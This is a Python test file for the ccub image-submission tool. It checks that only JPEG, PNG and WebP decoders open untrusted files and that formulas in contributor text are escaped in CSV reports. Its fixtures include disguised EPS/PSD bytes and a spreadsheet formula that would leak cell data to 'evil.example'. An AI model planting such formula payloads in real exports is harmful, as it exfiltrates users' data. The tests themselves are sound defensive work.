"""Decoders only for the formats ccub accepts, and formula-safe spreadsheets.

Every Pillow plugin is a parser of hostile bytes (EPS even runs Ghostscript), so untrusted
files are only ever opened with `formats=` JPEG, PNG or WebP.
"""

from __future__ import annotations

import csv
import io
import json

from helpers import by_image, imagefolder, row, run, write_jsonl
from PIL import Image

from ccub.imaging.decode import ACCEPTED

EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n" + b"%" * 2000


def _bytes(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


def test_validate_opens_images_only_with_the_accepted_formats(tmp_path, monkeypatch):
    root, out = tmp_path / "sub", tmp_path / "out"
    imagefolder(root / "korea", [("ok.jpg", "a bowl of bibimbap with vegetables")])
    hostile = {"eps.jpg": EPS, "tiff.jpg": _bytes("TIFF"), "gif.png": _bytes("GIF"),
               "bmp.webp": _bytes("BMP"), "psd.jpg": b"8BPS" + b"\0" * 4000}
    for name, data in hostile.items():
        (root / "korea" / name).write_bytes(data)
    write_jsonl(root / "korea" / "metadata.jsonl",
                [row("ok.jpg", text="a bowl of bibimbap with vegetables")]
                + [row(name, text=f"a picture that is really {name}") for name in hostile])
    calls: list[object] = []
    real_open = Image.open

    def spy(fp, mode="r", formats=None):
        calls.append(formats)
        return real_open(fp, mode, formats)

    monkeypatch.setattr(Image, "open", spy)
    result = run(root, out, reports=True)
    assert calls and all(f is not None and set(f) <= set(ACCEPTED) for f in calls), calls
    for name in hostile:
        assert by_image(result)[f"korea/{name}"].status == "rejected"
    assert by_image(result)["korea/ok.jpg"].status == "accepted"


def test_formula_in_contributor_text_is_shown_as_text_in_issues_csv(tmp_path):
    root, out = tmp_path / "sub", tmp_path / "out"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    imagefolder(root / "korea", [("a.jpg", "a bowl of bibimbap with vegetables")],
                contributor=formula)
    write_jsonl(root / "korea" / "metadata.jsonl",
                [row("a.jpg", text="a bowl of bibimbap with vegetables", contributor=formula,
                     license="@SUM(1+1)")])
    run(root, out, reports=True)
    cells = [c for r in csv.reader(io.StringIO((out / "reports" / "issues.csv")
                                                .read_text("utf-8"))) for c in r]
    assert "'" + formula in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    report = json.loads((out / "reports" / "report.json").read_text("utf-8"))
    assert any(i["contributor"] == formula for i in report["issues"])  # JSON keeps it exact
